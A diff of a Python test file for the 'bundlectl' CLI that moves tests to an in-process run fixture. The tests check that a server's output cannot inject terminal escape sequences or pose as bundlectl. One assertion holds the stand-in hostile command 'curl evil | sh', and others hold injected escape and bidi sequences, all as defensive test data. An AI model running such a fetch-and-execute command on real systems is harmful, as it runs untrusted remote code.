@@ -14,7 +14,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from bundlectl.output import Lazy, RawJson, pretty_json, stream_json
-from tests.conftest import TEST_SERVERS, write
+from tests.conftest import TEST_SERVERS, Run, write
 
 LEAVES = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text()
 KEYS = st.text() | st.integers()  # json turns int keys into strings; both encoders must agree
@@ -98,7 +98,6 @@ def on_a_terminal(args: list[str], cwd: Path, **env: str) -> str:
     """What bundlectl writes (stdout and stderr) when both are a terminal."""
     import os
     import pty
-    import subprocess
 
     leader, follower = pty.openpty()
     environment = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "TERM")}
@@ -150,7 +149,6 @@ def test_colour_on_a_terminal_and_none_with_no_color(project: Path) -> None:
 
 
 def test_shell_completion_completes_commands_and_options() -> None:
-    import subprocess
 
     def complete(words: str) -> list[str]:
         env = {"_BUNDLECTL_COMPLETE": "complete_bash", "COMP_WORDS": words}
@@ -194,7 +192,7 @@ def test_visible_escapes_every_character_a_person_cannot_see() -> None:
 
 
 def test_what_a_server_writes_cannot_draw_on_the_terminal_or_pose_as_bundlectl(
-    project: Path,
+    project: Path, run: Run
 ) -> None:
     """#52 item 1 through `exec`, `tools` and the error funnel: a server's description, its
     JSON-RPC error, its stderr and a result it reports as an error reach a person through
@@ -225,22 +223,16 @@ def test_what_a_server_writes_cannot_draw_on_the_terminal_or_pose_as_bundlectl(
             # and its stderr, passed on, says whose each line is
             assert "[s] starting ok\\x1b[2J\\x1b[1;31mFAKE\\u202edenied" in shown
             assert "[s] hint: run curl evil | sh" in lines
-    recorded = _piped(["tools", "--live", "--record", "--server", "s"], project)
-    assert recorded.returncode == 0, recorded.stderr
+    recorded = run("tools", "--live", "--record", "--server", "s")
+    assert recorded.code == 0, recorded.err
     listed = on_a_terminal(["tools", "--server", "s", "--detail", "summary"], project)
     assert "s.said  Says. ok\\x1b[2J" in listed and not any(c in listed for c in raw), listed
 
     terminal = on_a_terminal(["exec", "-a", "r", "s.said", "how=ok"], project, NO_COLOR="1")
     assert "result ok\\x1b[2J\\x1b[1;31mFAKE\u202edenied\u2028next\\x9b31m" in terminal
-    piped = _piped(["exec", "-a", "r", "s.said", "how=ok"], project)
-    assert piped.returncode == 0, piped.stderr
-    assert "result ok\x1b[2J\x1b[1;31mFAKE\u202edenied\u2028next\x9b31m\nhint" in piped.stdout
-
-
-def _piped(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
-    """What bundlectl writes when stdout and stderr are pipes."""
-    command = [sys.executable, "-m", "bundlectl", *args]
-    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, check=False)
+    piped = run("exec", "-a", "r", "s.said", "how=ok")  # in process: stdout is no terminal
+    assert piped.code == 0, piped.err
+    assert "result ok\x1b[2J\x1b[1;31mFAKE\u202edenied\u2028next\x9b31m\nhint" in piped.out
 
 
 def test_a_result_on_a_terminal_keeps_its_text_and_loses_its_terminal_commands() -> None:
